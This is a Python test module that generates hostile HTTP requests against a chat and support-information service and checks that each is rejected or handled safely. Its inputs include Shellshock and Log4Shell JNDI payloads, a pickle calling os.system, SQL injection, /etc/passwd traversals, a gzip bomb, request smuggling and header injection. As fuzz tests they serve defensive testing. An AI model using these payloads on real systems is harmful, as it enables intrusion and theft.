"""Hostile input as it is sent: bodies, fields, ids, headers, methods, addresses, and HTTP itself."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from typing import Any

from tests.faults.hostile_wire import CHAT, FEEDBACK, FORGET, JSON_TYPE, MARK, Case, Headers, of, posted, request

QUESTION = f"who can interpret? {MARK}"
GOOD: dict[str, Any] = {"message": QUESTION}
PLAIN = json.dumps(GOOD).encode()
TURN = "0cb0a68a-c263-4427-ad90-a65dd4597c21"
MINTED = "0123456789abcdef" * 3  # of an id's shape, and minted by nobody
MAX_BODY = 16 * 1024
# The whole of every call, for what is tried on each.
BODIES: dict[str, dict[str, Any]] = {
    CHAT: GOOD,
    FORGET: {"conversation_id": MINTED},
    FEEDBACK: {"message_id": TURN, "helpful": True, "comment": MARK},
}
API_READS = ("/api/v1/contacts", "/api/v1/topics", "/api/v1/topics/marac_criteria", "/api/v1/documents")
PAGES = ("/", "/topics", "/topics/marac_criteria", "/thresholds", "/start", "/about", "/contacts", "/privacy")

WRONG_BODIES: dict[str, bytes] = {
    "null": b"null",
    "true": b"true",
    "a number": b"4711",
    "a string": json.dumps(MARK).encode(),
    "an empty list": b"[]",
    "the object in a list": b"[" + PLAIN + b"]",
    "an empty object": b"{}",
    "no body": b"",
    "white space": b" \r\n\t ",
    "half an object": PLAIN[:-5],
    "an unclosed string": b'{"message": "' + MARK.encode(),
    "garbage behind": PLAIN + b" " + MARK.encode(),
    "a second object behind": PLAIN + PLAIN,
    "a closing comma": PLAIN[:-1] + b",}",
    "single quotes": PLAIN.replace(b'"', b"'"),
    "keys without quotes": b"{message: 1}",
    "a comment": PLAIN[:-1] + b"/* x */}",
    "a raw line end in the string": b'{"message": "who\n' + MARK.encode() + b'"}',
    "a raw NUL in the string": b'{"message": "who\x00' + MARK.encode() + b'"}',
    "an unknown escape": b'{"message": "who\\x41 ' + MARK.encode() + b'"}',
    "half a unicode escape": b'{"message": "who\\u00 ' + MARK.encode() + b'"}',
    "NaN": b'{"message": NaN}',
    "infinity": b'{"message": -Infinity}',
    "a huge number": b'{"message": ' + b"9" * 5000 + b"}",
    "a huge exponent": b'{"message": 1e999999999}',
    "lists 7,000 deep": b'{"message": ' + b"[" * 7000 + b"]" * 7000 + b"}",
    "objects 2,000 deep": b'{"message": ' + b'{"a":' * 2000 + b"1" + b"}" * 2000 + b"}",
    "lists 10,000 deep, never closed": b"[" * 10_000,
    "a thousand keys": json.dumps({**GOOD, **{f"k{i}": i for i in range(1000)}}).encode(),
    "a key of 15 KB": json.dumps({**GOOD, "k" * 15_000: 1}).encode(),
    "an invented key": json.dumps({**GOOD, "sender": MARK}).encode(),
    "metadata": json.dumps({**GOOD, "metadata": {"borough": "camden"}}).encode(),
    "a prototype": json.dumps({**GOOD, "__proto__": {"admin": True}}).encode(),
    "a class": json.dumps({**GOOD, "__class__": "x", "__init__": "y"}).encode(),
    "UTF-16": json.dumps(GOOD).encode("utf-16"),
    "UTF-16 without its mark": json.dumps(GOOD).encode("utf-16-le"),
    "UTF-32": json.dumps(GOOD).encode("utf-32"),
    "latin-1": f'{{"message": "café {MARK}"}}'.encode("latin-1"),
    "invalid UTF-8": b'{"message": "who \xc3\x28 ' + MARK.encode() + b'"}',
    "overlong UTF-8": b'{"message": "who \xc0\xaf ' + MARK.encode() + b'"}',
    "a surrogate as UTF-8": b'{"message": "who \xed\xa0\x80 ' + MARK.encode() + b'"}',
    "beyond unicode as UTF-8": b'{"message": "who \xf5\x80\x80\x80 ' + MARK.encode() + b'"}',
    "cut in a character": f'{{"message": "{MARK} 🙂'.encode()[:-2] + b'"}',
    "gzip": gzip.compress(PLAIN, mtime=0),
    "zeroes": bytes(2000),
    "a pickle": b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x07" + MARK.encode()[:7] + b"\x85R.",
    "a form": f"message={MARK}&conversation_id=1".encode(),
    "XML": f"<message>{MARK}</message>".encode(),
    "YAML": f"message: {MARK}".encode(),
    "concatenated lines": PLAIN + b"\n" + PLAIN + b"\n",
}
ALLOWED_BODIES: dict[str, bytes] = {
    "spaces around": b" \n" + PLAIN + b"\n ",
    "the key escaped": b'{"mess\\u0061ge": "who can interpret?"}',
    "null where something is optional": json.dumps(
        {**GOOD, "conversation_id": None, "turn_id": None, "borough": None}
    ).encode(),
}
UNDECIDED_BODIES: dict[str, bytes] = {  # either reading of these is sound, as long as it is one of the two
    "a byte order mark": b"\xef\xbb\xbf" + PLAIN,
    "the message twice": b'{"message": "who can interpret?", "message": "' + MARK.encode() + b'"}',
    "a lone surrogate and nothing else": b'{"message": "\\ud800"}',
}
WRONG_VALUES: dict[str, Any] = {
    "null": None,
    "true": True,
    "a number": 4711,
    "a fraction": 1.5,
    "a list": [MARK],
    "an object": {"text": MARK},
    "an empty object": {},
    "a huge number": 10**400,
    "a nested list": [[[[[MARK]]]]],
}
# In these fields null is as good as nothing said.
OPTIONAL = {"conversation_id", "turn_id", "borough", "reason", "comment"}
FIELDS: dict[str, tuple[str, ...]] = {
    CHAT: ("message", "conversation_id", "turn_id", "borough"),
    FORGET: ("conversation_id",),
    FEEDBACK: ("message_id", "helpful", "reason", "comment"),
}
INVENTED_IDS: dict[str, str] = {
    "invented": MINTED,
    "of nothing but zeroes": "0" * 48,
    "truncated": MINTED[:-1],
    "only the engine's part": MINTED[:32],
    "too long": MINTED + "0",
    "empty": "",
    "in capitals": MINTED.upper(),
    "with a line end": MINTED + "\n",
    "with a space before": " " + MINTED,
    "with a NUL": MINTED[:-1] + "\x00",
    "in arabic-indic digits": "٠١٢٣٤٥٦٧" * 6,
    "in fullwidth letters": "ａ" * 48,
    "with a lone surrogate": MINTED[:-1] + "\ud800",
    "a path": f"../../{MARK}",
    "an SQL condition": "' OR '1'='1",
    "a wildcard": "%" * 48,
    "the word default": "default",
    "10,000 characters": "a" * 10_000,
    "a uuid": TURN,
}
INVENTED_TURNS: dict[str, str] = {
    "words": MARK,
    "empty": "",
    "of version 1": "6ba7b810-9dad-11d1-80b4-00c04fd430c8",
    "of no version": "00000000-0000-0000-0000-000000000000",
    "in capitals": TURN.upper(),
    "in braces": f"{{{TURN}}}",
    "as a urn": f"urn:uuid:{TURN}",
    "without dashes": TURN.replace("-", ""),
    "with a line end": TURN + "\n",
    "with a NUL": TURN[:-1] + "\x00",
    "in fullwidth digits": "０" + TURN[1:],
    "with a lone surrogate": TURN[:-1] + "\ud800",
}
BOROUGHS: dict[str, str] = {
    "of elsewhere": "islington",
    "in capitals": "Camden",
    "empty": "",
    "with a space": "camden ",
    "both, twice": "lambeth,camden",
    "with a cyrillic letter": "сamden",
    "a path": "../camden",
    "an expression": "camden' OR '1'='1",
}
CONTENT_TYPES: dict[str, str] = {
    "text": "text/plain",
    "a form": "application/x-www-form-urlencoded",
    "multipart": "multipart/form-data; boundary=x",
    "multipart without a boundary": "multipart/form-data",
    "html": "text/html",
    "xml": "application/xml",
    "bytes": "application/octet-stream",
    "csp report": "application/csp-report-json",
    "a list of two": "text/plain, application/json",
    "json without its first half": "/json",
    "json as a parameter": "text/plain; application/json",
    "nothing but a semicolon": ";",
    "10,000 characters": "a" * 10_000,
    "latin-1 bytes": "applicatión/json",
}
JSON_TYPES: dict[str, str] = {
    "a charset": "application/json; charset=utf-8",
    "another charset": "application/json; charset=utf-16",
    "capitals": "APPLICATION/JSON",
    "a vendor": "application/vnd.signpost+json",
}
FORM = (
    f'--x\r\nContent-Disposition: form-data; name="message"\r\n\r\n{MARK}\r\n'
    f'--x\r\nContent-Disposition: form-data; name="f"; filename="../../{MARK}"\r\n\r\nx\r\n--x--\r\n'
).encode()
HARMLESS_HEADERS: dict[str, Headers] = {
    "somebody's name": [("X-Forwarded-User", MARK), ("X-Remote-User", MARK), ("Remote-User", MARK)],
    "the administrator's role": [("X-Forwarded-Groups", "administrator"), ("X-Role", "administrator")],
    "another address": [("X-Forwarded-For", "203.0.113.7, 127.0.0.1"), ("X-Real-IP", "203.0.113.7")],
    "another scheme": [("X-Forwarded-Proto", "javascript"), ("X-Forwarded-Prefix", f"/{MARK}")],
    "another host forwarded": [("X-Forwarded-Host", "owned.example")],
    "the standard's own": [("Forwarded", 'for="_owned";host=owned.example;proto=https')],
    "another method": [("X-HTTP-Method-Override", "DELETE"), ("X-Method-Override", "DELETE")],
    "another address to read": [("X-Original-URL", "/admin"), ("X-Rewrite-URL", "/admin")],
    "a signature of the engine's": [("X-Signpost-Signature", "0" * 64), ("X-Signpost-Timestamp", "1")],
    "a bearer": [("Authorization", f"Bearer {MARK}")],
    "basic words": [("Authorization", "Basic !!!not base64")],
    "a cookie that is no cookie": [("Cookie", f"session={MARK}; ; =; a=b=c; \x7f")],
    "ten thousand letters of cookie": [("Cookie", "session=" + "a" * 10_000)],
    "two hundred headers": [(f"X-{number}", MARK) for number in range(200)],
    "a header of 60 KB": [("X-Long", "a" * 60_000)],
    "a shellshock": [("User-Agent", "() { :; }; touch /var/" + MARK)],
    "a lookup": [("User-Agent", f"${{jndi:ldap://owned.example/{MARK}}}")],
    "bytes that are no text": [("User-Agent", b"\xff\xfe" + MARK.encode())],
    "a forged log line": [("User-Agent", f"x\t\tINFO {MARK}")],
    "an escape": [("User-Agent", f"x\x1b[31m{MARK}")],
    "languages without end": [("Accept-Language", ",".join(f"l{n};q=0.{n}" for n in range(900)))],
    "what cannot be accepted": [("Accept", "application/x-nothing;q=0")],
    "an encoding": [("Accept-Encoding", "br;q=9, gzip;q=x, *;q=0")],
    "a range": [("Range", "bytes=0-0,1-1,2-2,-1")],
    "a condition": [("If-None-Match", "*"), ("If-Match", '"x"'), ("If-Modified-Since", "never")],
    "an upgrade": [("Upgrade", "websocket"), ("Sec-WebSocket-Key", "x" * 24)],
    "an upgrade to h2c": [("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQAAP__")],
    "an empty name of a user agent": [("User-Agent", "")],
    "a proxy": [("Proxy", "http://owned.example"), ("Via", "1.1 owned.example")],
}
CONTROLS_IN_HEADERS = {"a cookie that is no cookie", "an escape"}  # HTTP forbids them
HOSTS: dict[str, str | bytes] = {
    "of another": "owned.example",
    "with a path": "127.0.0.1/owned",
    "with markup": "<script>owned=1</script>",
    "with words": f"x {MARK}",
    "empty": "",
    "with a port that is none": "127.0.0.1:99999",
    "with a name in it": "user:word@127.0.0.1",
    "of a bracket": "[::1",
    "of bytes": b"\xff\xfe",
    "10,000 characters": "a" * 10_000,
}
METHODS = ("PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "PURGE", "BREW", "post")
CLIMBS = (
    "/../../etc/passwd",
    "/..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/%252e%252e%252fetc%252fpasswd",
    "/..;/..;/etc/passwd",
    "/..\\..\\etc\\passwd",
    "/%5c..%5c..%5cetc%5cpasswd",
    "/%c0%ae%c0%ae/etc/passwd",
    "/....//....//etc/passwd",
    "//etc/passwd",
    "/%00/etc/passwd",
    "/.git/config",
    "/.env",
    "/turn.key",
)
CLIMBED = ("/topics", "/api/v1/topics", "/static", "/contacts", "/api/v1", "/health", "")
QUERIES: dict[str, str] = {
    "repeated": "q=marac&q=lado&q=" + MARK,
    "a thousand times": "&".join(["q=a"] * 1000),
    "a list": "q[]=a&q[x]=b&borough[]=camden",
    "no name": "=" + MARK,
    "nothing but signs": "&&&===&&",
    "100,000 characters": "q=" + "a" * 100_000,
    "invalid escapes": "q=%zz%f%",
    "invalid UTF-8": "q=%ff%fe%c3%28&borough=%ff",
    "a NUL": "q=%00" + MARK,
    "line ends": f"q=%0d%0aSet-Cookie:%20{MARK}=1",
    "a surrogate": "q=%ed%a0%80",
    "bidi": "q=%e2%80%ae" + MARK,
    "a question mark": "?q=a?b?c",
    "semicolons": "q=a;borough=camden;order=az",
    "an unknown name": f"debug=1&admin=true&{MARK}={MARK}",
    "letters that grow": "q=" + "%ef%b7%ba" * 200,
    "regular expression": "q=(a%2B)%2B%24%5B",
    "stars": "q=" + "*" * 500 + "%25" * 300,
    "an expression": "q=%27%20OR%201=1--&order=az;drop",
}


def request_cases() -> Iterator[Case]:
    yield from _bodies()
    yield from _fields()
    yield from _ids()
    yield from _types()
    yield from _headers()
    yield from _methods()
    yield from _addresses()
    yield from _broken_http()


def _bodies() -> Iterator[Case]:
    for path in BODIES:
        for name, body in WRONG_BODIES.items():
            if path == CHAT or name in EVERYWHERE:
                yield Case(f"body to {path}: {name}", posted(body, path), of(400), path)
    for name, body in ALLOWED_BODIES.items():
        yield Case(f"body that is right: {name}", posted(body), of(200))
    for name, body in UNDECIDED_BODIES.items():
        yield Case(f"body of two readings: {name}", posted(body), of(200, 400))
    for bytes_, status in {MAX_BODY - 1: 413, MAX_BODY: 413, MAX_BODY + 1: 413, 17 * 1024: 413, 200_000: 413}.items():
        yield Case(f"body of {bytes_:,} bytes: one message", posted(_of_size(bytes_)), of(status))
    for bytes_, status in {MAX_BODY - 1: 200, MAX_BODY: 200, MAX_BODY + 1: 413}.items():
        padded = PLAIN + b" " * (bytes_ - len(PLAIN))
        yield Case(f"body of {bytes_:,} bytes: mostly spaces", posted(padded), of(status))
    for path in (FORGET, FEEDBACK):
        yield Case(f"body of 17 KB to {path}", posted(_of_size(17 * 1024), path), of(413), path)


# What is tried on the other two calls as well: one of each sort.
EVERYWHERE = {"null", "a string", "the object in a list", "an empty object", "no body", "half an object"}
EVERYWHERE |= {
    "garbage behind",
    "NaN",
    "lists 7,000 deep",
    "UTF-16",
    "invalid UTF-8",
    "a raw NUL in the string",
    "gzip",
}


def _of_size(size: int) -> bytes:
    head, tail = b'{"message": "' + MARK.encode(), b'"}'
    return head + b"a" * (size - len(head) - len(tail)) + tail


def _fields() -> Iterator[Case]:
    for path, fields in FIELDS.items():
        for field in fields:
            for name, value in WRONG_VALUES.items():
                if (value is None and field in OPTIONAL) and path != FORGET:
                    continue
                if field == "helpful" and value is True:
                    continue
                body = {**BODIES[path], field: value}
                yield Case(f"field {field} of {path}: {name}", posted(body, path), of(400), path)
    for name, borough in BOROUGHS.items():
        yield Case(f"borough: {name}", posted({**GOOD, "borough": borough}), of(400))
    for reason in ("WRONG", "", "wrong\n", MARK, "wrong,unclear"):
        body = {**BODIES[FEEDBACK], "reason": reason}
        yield Case(f"reason: {reason!r}", posted(body, FEEDBACK), of(400), FEEDBACK)
    for name, comment, status in (
        ("1,000 letters", "e" * 1000, 204),
        ("1,001 letters", "e" * 1001, 413),
        ("1,001 emoji", "🙂" * 1001, 413),
        ("blank", "\u200b \n", 204),
        ("a lone surrogate", "wrong \ud800", 204),
        ("a NUL", f"wrong \x00 {MARK}", 204),
        ("a command", "/restart", 204),
    ):
        body = {**BODIES[FEEDBACK], "comment": comment}
        allowed = of(status, 400) if "surrogate" in name else of(status)
        yield Case(f"comment: {name}", posted(body, FEEDBACK), allowed, FEEDBACK)


def _ids() -> Iterator[Case]:
    for name, invented in INVENTED_IDS.items():
        allowed = of(400, 404)
        started = of(200, 400, 404) if not invented else allowed  # an empty one is as good as none: it starts another
        yield Case(f"conversation of a chat: {name}", posted({**GOOD, "conversation_id": invented}), started)
        yield Case(f"conversation to forget: {name}", posted({"conversation_id": invented}, FORGET), allowed, FORGET)
    for name, invented in INVENTED_TURNS.items():
        yield Case(f"turn: {name}", posted({**GOOD, "turn_id": invented}), of(400))
        body = {**BODIES[FEEDBACK], "message_id": invented}
        yield Case(f"message of feedback: {name}", posted(body, FEEDBACK), of(400), FEEDBACK)


def _types() -> Iterator[Case]:
    for name, kind in CONTENT_TYPES.items():
        yield Case(f"content type: {name}", request("POST", CHAT, [("Content-Type", kind)], PLAIN), of(415))
    for path in (FORGET, FEEDBACK):
        body = json.dumps(BODIES[path]).encode()
        yield Case(
            f"content type of {path}: text",
            request("POST", path, [("Content-Type", "text/plain")], body),
            of(415),
            path,
        )
    for name, kind in JSON_TYPES.items():
        yield Case(f"content type: {name}", request("POST", CHAT, [("Content-Type", kind)], PLAIN), of(200))
    yield Case("content type: none", request("POST", CHAT, [], PLAIN), of(415))
    yield Case(
        "content type: a real form",
        request("POST", CHAT, [("Content-Type", "multipart/form-data; boundary=x")], FORM),
        of(415),
    )
    packed = gzip.compress(PLAIN, mtime=0)
    yield Case("content encoding: gzip", posted(packed, CHAT, [("Content-Encoding", "gzip")]), of(400, 415))
    bomb = gzip.compress(b" " * 10_000_000, mtime=0)
    yield Case(
        "content encoding: ten megabytes in ten kilobytes",
        posted(bomb, CHAT, [("Content-Encoding", "gzip")]),
        of(400, 415),
    )
    for coding in ("br", "identity, gzip", "zzz"):
        wire = posted(PLAIN[:-1], CHAT, [("Content-Encoding", coding)])
        yield Case(f"content encoding: {coding}, and half an object", wire, of(400, 415))


def _headers() -> Iterator[Case]:
    for name, headers in HARMLESS_HEADERS.items():
        allowed = of(200, 400) if name in CONTROLS_IN_HEADERS else of(200)
        yield Case(f"header on a question: {name}", posted(PLAIN, CHAT, headers), allowed)
        yield Case(f"header on a page: {name}", request("GET", "/topics", headers), allowed, "/topics", ())
    for name, host in HOSTS.items():
        yield Case(
            f"host on a page: {name}",
            request("GET", "/topics/lado", [("Host", host)]),
            of(200, 400),
            "/topics/lado",
            ("<script>owned",),
        )
        yield Case(f"host on a question: {name}", posted(PLAIN, CHAT, [("Host", host)]), of(200, 400))
    yield Case("header: 300 KB", posted(PLAIN, CHAT, [("X-Long", "a" * 300_000)]), of(400, 431))


def _methods() -> Iterator[Case]:
    for path in (
        *BODIES,
        *API_READS,
        "/api/v1/openapi.json",
        *PAGES,
        "/health/live",
        "/health/ready",
        "/static/widget.js",
    ):
        for method in METHODS:
            allowed = of(400, 405) if method.islower() else of(405)
            yield Case(f"{method} {path}", request(method, path, [JSON_TYPE], PLAIN), allowed, path)
    for path in BODIES:
        yield Case(f"GET {path}", request("GET", path), of(405), path)
        yield Case(f"HEAD {path}", request("HEAD", path), of(405), path, ())
        yield Case(f"OPTIONS {path}", request("OPTIONS", path), of(200, 204), path)
    for path in (*API_READS, *PAGES):
        yield Case(f"POST {path}", request("POST", path, [JSON_TYPE], PLAIN), of(405), path)
        yield Case(f"GET {path} with a body", request("GET", path, [JSON_TYPE], PLAIN), of(200), path)
    for target in ("127.0.0.1:22", "owned.example:443"):
        yield Case(f"CONNECT {target}", request("CONNECT", target), of(400, 404, 405, 501), target)


def _addresses() -> Iterator[Case]:
    for folder in CLIMBED:
        for climb in CLIMBS:
            path = folder + climb
            # two slashes may be taken for one, which sends on to where there is nothing either
            allowed = of(308, 400, 404) if "//" in path[1:] else of(400, 404)
            yield Case(f"climb {path}", request("GET", path), allowed, path, ("root:", "[core]"))
    for path in ("/topics", "/contacts", "/", "/topics/lado", *API_READS[:3]):
        for name, query in QUERIES.items():
            allowed = of(200, 400, 414) if path.startswith("/api") else of(200, 414)
            yield Case(f"query of {path}: {name}", request("GET", f"{path}?{query}"), allowed, path, ())
    for key in (
        MARK,
        "MARAC_CRITERIA",
        "marac_criteria%00",
        "marac_criteria%0a",
        "%F0%9F%99%82",
        "a" * 5000,
        "__class__",
    ):
        for folder in ("/topics/", "/api/v1/topics/"):
            yield Case(f"no topic {folder}{key[:20]}", request("GET", folder + key), of(404), folder + key)
    for path in (
        f"/{MARK}",
        f"/api/v1/{MARK}",
        f"/health/{MARK}",
        "/admin",
        "/console",
        "/conversations/x/tracker",
        "/webhooks/signpost/turn",
        "/webhooks/rest/webhook",
        "/model",
        "/metrics/../admin",
        "/api/v2/chat",
        "/API/V1/CHAT",
    ):
        yield Case(f"nothing at {path}", request("GET", path), of(404), path)
    yield Case("no topic with bytes", request("GET", b"/topics/\xff\xfe"), of(400, 404), "/topics/x")
    yield Case(
        "a whole address",
        request("GET", "http://owned.example/topics/lado"),
        of(200, 400, 404),
        "/topics/lado",
        ("<script>owned",),
    )


def _broken_http() -> Iterator[Case]:
    inner = b"GET /topics HTTP/1.1\r\nHost: " + MARK.encode() + b"\r\n\r\n"
    chunked = [JSON_TYPE, ("Transfer-Encoding", "chunked")]
    good_chunks = b"%x\r\n%s\r\n0\r\n\r\n" % (len(PLAIN), PLAIN)
    yield Case("chunked", request("POST", CHAT, chunked, good_chunks, length=False), of(200))
    yield Case("chunked, byte by byte", request("POST", CHAT, chunked, _byte_by_byte(PLAIN), length=False), of(200))
    yield Case(
        "chunked, over 16 KB",
        request("POST", CHAT, chunked, b"4e20\r\n" + b"a" * 20_000 + b"\r\n0\r\n\r\n", length=False),
        of(413),
    )
    broken = {
        "a length and chunks": request("POST", CHAT, chunked, b"0\r\n\r\n" + inner),
        "chunks of no length": request("POST", CHAT, chunked, b"zz\r\n" + PLAIN + b"\r\n0\r\n\r\n", length=False),
        "a chunk of minus one": request("POST", CHAT, chunked, b"-1\r\n" + PLAIN + b"\r\n0\r\n\r\n", length=False),
        "a chunk longer than memory": request("POST", CHAT, chunked, b"ffffffffffffffff\r\n" + PLAIN, length=False),
        "a chunk with an extension": request(
            "POST", CHAT, chunked, b"5;" + MARK.encode() * 9 + b"\r\nhello\r\n0\r\n\r\n", length=False
        ),
        "chunked with a letter before": request("POST", CHAT, [JSON_TYPE, ("Transfer-Encoding", "xchunked")], PLAIN),
        "chunked and identity": request(
            "POST", CHAT, [JSON_TYPE, ("Transfer-Encoding", "chunked, identity")], good_chunks
        ),
        "chunked behind a tab": request("POST", CHAT, [JSON_TYPE, ("Transfer-Encoding", "\x0bchunked")], good_chunks),
        "a space before the colon": request("POST", CHAT, [JSON_TYPE, ("Transfer-Encoding ", "chunked")], good_chunks),
        "two lengths": request("POST", CHAT, [JSON_TYPE, ("Content-Length", "3")], PLAIN),
        "a length with a sign": request("POST", CHAT, [JSON_TYPE, ("Content-Length", "+41")], PLAIN, length=False),
        "a length below nothing": request("POST", CHAT, [JSON_TYPE, ("Content-Length", "-1")], PLAIN, length=False),
        "a length in words": request("POST", CHAT, [JSON_TYPE, ("Content-Length", MARK)], PLAIN, length=False),
        "a length in arabic-indic digits": request(
            "POST", CHAT, [JSON_TYPE, ("Content-Length", "٤١")], PLAIN, length=False
        ),
        "a length with an underscore": request(
            "POST", CHAT, [JSON_TYPE, ("Content-Length", "4_1")], PLAIN, length=False
        ),
        "a length beyond 64 bits": request(
            "POST", CHAT, [JSON_TYPE, ("Content-Length", "9" * 40)], PLAIN, length=False
        ),
        "no request at all": MARK.encode() + b"\r\n\r\n",
        "a greeting of TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64) + b"\r\n\r\n",
        "a greeting of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "three versions on": b"POST " + CHAT.encode() + b" HTTP/9.9\r\nHost: x\r\nConnection: close\r\n\r\n",
        "a space in the address": b"GET /topics "
        + MARK.encode()
        + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        "a line without a colon": b"GET /topics HTTP/1.1\r\nHost: x\r\n"
        + MARK.encode()
        + b"\r\nConnection: close\r\n\r\n",
        "a header without a name": b"GET /topics HTTP/1.1\r\nHost: x\r\n: "
        + MARK.encode()
        + b"\r\nConnection: close\r\n\r\n",
        "a folded header": b"GET /topics HTTP/1.1\r\nHost: x\r\nX-A: a\r\n "
        + MARK.encode()
        + b"\r\nConnection: close\r\n\r\n",
        "a NUL in a header": b"GET /topics HTTP/1.1\r\nHost: x\r\nX-A: \x00"
        + MARK.encode()
        + b"\r\nConnection: close\r\n\r\n",
        "a line feed alone": b"GET /topics HTTP/1.1\nHost: x\nX-A: " + MARK.encode() + b"\nConnection: close\n\n",
        "a carriage return alone": b"GET /topics HTTP/1.1\r\nHost: x\r\nX-A: a\rX-B: "
        + MARK.encode()
        + b"\r\nConnection: close\r\n\r\n",
        "two hosts": request("GET", "/topics/lado", [("Host", "127.0.0.1"), ("Host", "owned.example")]),
        "a memcached command": b"set " + MARK.encode() + b" 0 60 5\r\nhello\r\n\r\n",
        "a redis command": b"*1\r\n$4\r\n" + MARK.encode() + b"\r\n\r\n",
        "a mail": b"HELO " + MARK.encode() + b"\r\nMAIL FROM:<x>\r\n\r\n",
    }
    for name, wire in broken.items():
        path = "/topics" if wire.startswith(b"GET /topics") else CHAT
        yield Case(f"broken HTTP: {name}", wire, ANSWERS_TO_BROKEN_HTTP, path)


# Which of them a server takes for sound is its own affair; never two answers, never words that were sent.
ANSWERS_TO_BROKEN_HTTP = of(0, 200, 400, 404, 411, 413, 415, 431, 501, 505)


def _byte_by_byte(body: bytes) -> bytes:
    return b"".join(b"1\r\n%c\r\n" % byte for byte in body) + b"0\r\n\r\n"
